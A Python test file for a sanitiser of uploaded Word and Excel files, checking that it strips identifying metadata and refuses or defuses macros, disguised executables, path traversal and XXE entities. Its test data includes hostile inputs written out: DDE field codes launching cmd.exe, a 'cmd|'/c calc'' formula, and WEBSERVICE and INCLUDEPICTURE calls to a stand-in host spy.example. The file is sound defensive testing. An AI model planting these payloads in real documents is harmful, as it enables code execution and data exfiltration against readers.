"""A part of a document or workbook is judged by its content and declared type, whatever its name and place."""

import zipfile
from io import BytesIO

import openpyxl
import pytest
import xlsxwriter  # type: ignore[import-untyped]
from PIL import Image

from portal.domain.refusals import Invalid
from portal.evidence_files import cleaning, office, sentences
from portal.sandbox.packed import Packed
from tests import files
from tests.files import MAIN, SECRET, WORD

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
BOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


Names = dict[str, str]


def package(
    parts: dict[str, bytes | str], main: str = MAIN, types: Names | None = None, related: Names | None = None
) -> bytes:
    """A package of these parts; `types` are declared types by part, `related` relationships of the whole by part."""
    place = "word/document.xml" if main == MAIN else "xl/workbook.xml"
    overrides = {f"/{place}": main} | (types or {})
    declared = "".join(f'<Override PartName="{part}" ContentType="{type}"/>' for part, type in overrides.items())
    relations = {place: "officeDocument"} | (related or {})
    listed = "".join(
        f'<Relationship Id="r{at}" Type="{RELATION}/{kind}" Target="{part}"/>'
        for at, (part, kind) in enumerate(relations.items())
    )
    body = (
        f'<w:document xmlns:w="{WORD}"><w:body/></w:document>' if main == MAIN else f'<workbook xmlns="{NAMESPACE}"/>'
    )
    default = '<Default Extension="xml" ContentType="application/xml"/>'
    whole: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}">{default}{declared}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}">{listed}</Relationships>',
        place: body,
    }
    return files.zipped(whole | parts)


def word(inside: str) -> bytes:
    return package(
        {"word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p>{inside}</w:p></w:body></w:document>'}
    )


def field(*runs: str) -> str:
    code = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in runs)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def sheet(inside: str, *, encoding: str = "UTF-8", place: str = "xl/worksheets/sheet1.xml") -> bytes:
    text = f'<?xml version="1.0" encoding="{encoding}"?><worksheet xmlns="{NAMESPACE}">{inside}</worksheet>'
    return package({place: text.encode(encoding)}, BOOK, {f"/{place}": SHEET})


def formula(text: str) -> str:
    return f'<sheetData><row r="1"><c r="A1"><f>{text}</f><v>7</v></c></row></sheetData>'


def contents(data: bytes, depth: int = 0) -> bytes:
    """Everything in a package and in the packages inside it, names too."""
    with zipfile.ZipFile(BytesIO(data)) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    inner = [contents(part) for part in parts.values() if part.startswith(b"PK")]
    return b"\n".join([*map(str.encode, parts), *parts.values(), *inner])


def comments(name: str) -> str:
    return f'<comments xmlns="{NAMESPACE}"><authors><author>{name}</author></authors></comments>'


def tiff() -> bytes:
    exif, held = Image.Exif(), BytesIO()
    exif[0x013B] = SECRET
    Image.new("RGB", (9, 9), "red").save(held, "TIFF", exif=exif)
    return held.getvalue()


CORE = "application/vnd.openxmlformats-package.core-properties+xml"
SVG = f'<svg onload="{SECRET}"><metadata>{SECRET}</metadata><script>{SECRET}</script></svg>'
PASSWORD = f'<connections><connection><dbPr connection="Password={SECRET}"/></connection></connections>'
DDE = f'<externalLink xmlns="{NAMESPACE}"><ddeLink ddeService="cmd"/></externalLink>'
COMMENTED = f'<w:c xmlns:w="{WORD}"><w:comment w:author="{SECRET}"/></w:c>'
HIDDEN = {
    "properties under another name, by type": package(
        {"props/c.xml": f"<c>{SECRET}</c>"}, types={"/props/c.xml": CORE}
    ),
    "properties under another name, by relationship": package(
        {"a/c.xml": f"<c>{SECRET}</c>"}, related={"a/c.xml": "metadata/core-properties"}
    ),
    "a photograph under another ending": package({"word/media/p.dat": files.photograph()}),
    "a WebP photograph": package({"word/media/p.webp": files.photograph("WEBP")}),
    "a TIFF photograph": package({"word/media/p.tiff": tiff()}),
    "a drawing": package({"word/media/p.svg": SVG}),
    "a document in a document": package({"word/embeddings/x.docx": files.document()}),
    "a main part elsewhere": package(
        {"a/d.xml": f'<w:document xmlns:w="{WORD}"><w:ins w:author="{SECRET}"/></w:document>'}
    ),
    "a part of another ending": package({"word/p.xyz": COMMENTED}),
    "comments elsewhere": package({"xl/notes/c.xml": comments(SECRET)}, BOOK),
    "comments in another encoding": package(
        {"xl/comments1.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + comments(SECRET)).encode("utf-16")}, BOOK
    ),
    "a remark in the markup": word(f"<!-- {SECRET} --><?note {SECRET}?>"),
    "a remark in a sheet": sheet(f"<!-- {SECRET} -->"),
    "a database's password": package({"xl/connections.xml": PASSWORD}, BOOK),
}  # fmt: skip


@pytest.mark.parametrize("data", HIDDEN.values(), ids=HIDDEN)
def test_what_tells_of_the_sender_is_left_out_wherever_it_lies(data: bytes) -> None:
    _, made = cleaning.clean(data)
    written = contents(made)
    assert SECRET.encode() not in written
    assert SECRET.encode("utf-16-le") not in written


HARMFUL = {
    "macros by declared type": package(
        {"word/media/x.dat": b"x"}, types={"/word/media/x.dat": "application/vnd.ms-office.vbaProject"}
    ),
    "macros by relationship": package({"word/x.xml": "<x/>"}, related={"word/x.xml": "vbaProject"}),
    "an old document by its content": package({"word/media/x.emf": OLE}),
    "a program called a picture": package({"word/media/x.png": b"MZ" + bytes(600)}),
    "a page called a picture": package({"word/media/x.png": "<html><script/></html>"}),
    "a page to be merged": package({"word/chunk.mht": "MIME-Version: 1.0"}),
    "another format to be merged": package({"word/chunk.txt": "{\\rtf1 }"}),
    "a packed program": package({"word/embeddings/x.dat": files.zipped({"run.exe": "MZ"})}),
    "a document three deep": package(
        {"a.docx": package({"b.docx": package({"c.docx": package({})})})}
    ),
    "a link to a program's data": package({"xl/externalLinks/e.xml": DDE}, BOOK),
    "a document type in a sheet": package(
        {"xl/worksheets/sheet1.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'},
        BOOK,
        {"/xl/worksheets/sheet1.xml": SHEET},
    ),
    "a document type elsewhere": package({"xl/theme/t.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a/>'}, BOOK),
    "a name that leads elsewhere": package({"word/../../x.xml": "<x/>"}),
    "a name of another system": package({"word\\..\\x.xml": "<x/>"}),
    "a script by name": package({"word/run.js": "<x/>"}),
}  # fmt: skip


@pytest.mark.parametrize("data", HARMFUL.values(), ids=HARMFUL)
def test_what_could_run_or_lead_elsewhere_is_refused(data: bytes) -> None:
    with pytest.raises(Invalid) as refused:
        cleaning.clean(data)
    assert refused.value.sentence == sentences.HARMFUL


def test_a_field_that_starts_a_program_or_fetches_has_no_code_any_more() -> None:
    inside = field("DDE", "AUTO c:\\cmd.exe") + field(" PAGE ") + field("QUOTE 68 68 69 ", "cmd.exe")
    inside += '<w:fldSimple w:instr="INCLUDEPICTURE http://spy.example/"/><w:fldSimple w:instr="REF here"/>'
    _, made = cleaning.clean(word(inside))
    written = contents(made)
    for gone in (b"AUTO", b"cmd.exe", b"spy.example"):
        assert gone not in written, gone
    assert b" PAGE " in written
    assert b"REF here" in written


@pytest.mark.parametrize(
    ("text", "stays"),
    [
        ("cmd|'/c calc'!A0", False),
        ("WEBSERVICE(&quot;http://spy.example&quot;)", False),
        ("WEB&#83;ERVICE(&quot;http://spy.example&quot;)", False),
        ("<![CDATA[webservice(A1)]]>", False),
        ("SUM(A2:A9)", True),
        ("IF(A2=&quot;a|b!&quot;,1,2)", True),
    ],
)
@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16"])
def test_a_formula_that_starts_a_program_or_sends_cells_leaves_its_value(text: str, stays: bool, encoding: str) -> None:
    _, made = cleaning.clean(sheet(formula(text), encoding=encoding))
    written = Packed(made, 100_000).read("xl/worksheets/sheet1.xml", 100_000)
    assert (text.split("(")[0].encode() in written) == stays
    assert b"<v>7</v>" in written


@pytest.mark.parametrize(
    "data",
    [
        sheet("<c t='inlineStr'><is><t>Passport AB1234567</t></is></c>", encoding="UTF-16"),
        sheet("<c t='inlineStr'><is><t>Passport AB1234567</t></is></c>", place="a/b.xml"),
        package({"xl/drawings/d.xml": '<d xmlns:a="a"><a:p><a:t>Passport AB1234567</a:t></a:p></d>'}, BOOK),
    ],
)
def test_words_about_people_are_found_in_every_part(data: bytes) -> None:
    told, _ = cleaning.clean(data, "BD")
    assert told["personal"] == "passport"


def test_an_ordinary_workbook_stays_as_it_is() -> None:
    held = BytesIO()
    with xlsxwriter.Workbook(held) as book:
        page = book.add_worksheet("Wages")
        page.write_row(0, 0, ["Month", "Paid"])
        page.write_row(1, 0, ["May", 1250])
        page.write_formula(2, 1, "=SUM(B2:B2)", None, 1250)
        page.write_comment(0, 0, "Paid in cash", {"author": SECRET})
        page.insert_image(5, 5, "p.png", {"image_data": BytesIO(files.picture("PNG"))})
        page.insert_checkbox(8, 1, True)
        page.data_validation(1, 1, 1, 1, {"validate": "integer", "criteria": ">", "value": 0})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Wages!$B$2:$B$3"})
        page.insert_chart(9, 3, chart)
    _, made = cleaning.clean(held.getvalue())
    assert SECRET.encode() not in contents(made)
    book = openpyxl.load_workbook(BytesIO(made))
    page = book["Wages"]
    assert [[cell.value for cell in row] for row in page["A1:B3"]] == [
        ["Month", "Paid"],
        ["May", 1250],
        [None, "=SUM(B2:B2)"],
    ]
    assert page["A1"].comment is not None
    with zipfile.ZipFile(BytesIO(made)) as packed:
        assert {"xl/charts/chart1.xml", "xl/media/image1.png"} <= set(packed.namelist())


def test_what_an_add_in_stores_with_a_sheet_and_what_earlier_savings_left_is_left_out() -> None:
    """Excel writes both as binary parts that say nothing about what they hold."""
    held = BytesIO()
    book = xlsxwriter.Workbook(held, {"in_memory": True})
    book.add_worksheet("Fees").write("A1", "No fees.")
    book.close()
    with zipfile.ZipFile(held) as packed:
        parts: dict[str, bytes | str] = {name: packed.read(name) for name in packed.namelist()}
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.customProperty"
    place, relations = "xl/worksheets/sheet1.xml", f'<Relationships xmlns="{RELATIONS}">'
    sheet = bytes(parts[place]).decode()  # type: ignore[arg-type]
    properties = '<customProperties><customPr name="Client" r:id="rId9"/></customProperties></worksheet>'
    related = f'<Relationship Id="rId9" Type="{RELATION}/customProperty" Target="../customProperty1.bin"/>'
    types = bytes(parts["[Content_Types].xml"]).decode()  # type: ignore[arg-type]
    parts |= {
        place: sheet.replace("</worksheet>", properties),
        "xl/worksheets/_rels/sheet1.xml.rels": f"{relations}{related}</Relationships>",
        "xl/customProperty1.bin": SECRET.encode("utf-16-le"),
        "[trash]/0000.dat": b"\xff" * 40 + SECRET.encode(),
        "[Content_Types].xml": types.replace("</Types>", f'<Default Extension="bin" ContentType="{kind}"/></Types>'),
    }
    clean = office.rewritten(files.zipped(parts))[1]
    with zipfile.ZipFile(BytesIO(clean)) as packed:
        assert not {"xl/customProperty1.bin", "[trash]/0000.dat"} & set(packed.namelist())
        assert b"customPr" not in packed.read(place) and b"rId9" not in packed.read(place)
    assert openpyxl.load_workbook(BytesIO(clean))["Fees"]["A1"].value == "No fees."
